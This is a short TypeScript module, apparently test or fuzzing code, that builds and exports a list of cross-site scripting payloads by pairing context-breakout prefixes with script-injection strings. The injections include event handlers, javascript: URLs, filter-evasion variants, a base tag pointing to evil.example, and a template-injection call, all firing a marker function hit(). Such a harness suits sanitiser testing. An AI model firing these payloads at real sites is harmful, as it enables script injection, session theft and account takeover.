/** What leaves the place where a text was put, and then runs `hit()`: each way out with each way in. */
const waysOut = [
  '',
  '">',
  "'>",
  '-->',
  '</textarea>',
  '</title>',
  '</script>',
  '<![CDATA[',
  '\\x3e\\u003e&gt;',
  '\u2028',
];

const waysIn = [
  '<script>hit()</script>',
  '<ScRiPt >hit()</sCrIpT>',
  '<script src=data:,hit()></script>',
  '<img src=x onerror=hit()>',
  '<img/src=x/onerror=hit()//',
  '<svg onload=hit()>',
  '<svg><script>hit()</script>',
  '<math><mtext><img src onerror=hit()>',
  '<iframe srcdoc="<img src onerror=parent.hit()>">',
  '<iframe src=javascript:hit()>',
  '<a href=javascript:hit()>x</a>',
  '<a href="java&#9;script:hit()">x</a>',
  '<body onpageshow=hit()>',
  '<details open ontoggle=hit()>',
  '<input autofocus onfocus=hit()>',
  '<style>@import"data:,*{}"</style>',
  '<base href=https://evil.example>',
  '<object data=javascript:hit()>',
  '" autofocus onfocus="hit()',
  '{{constructor.constructor("hit()")()}}',
];

export const scriptPayloads: readonly string[] = waysOut.flatMap((out) =>
  waysIn.map((into) => out + into),
);
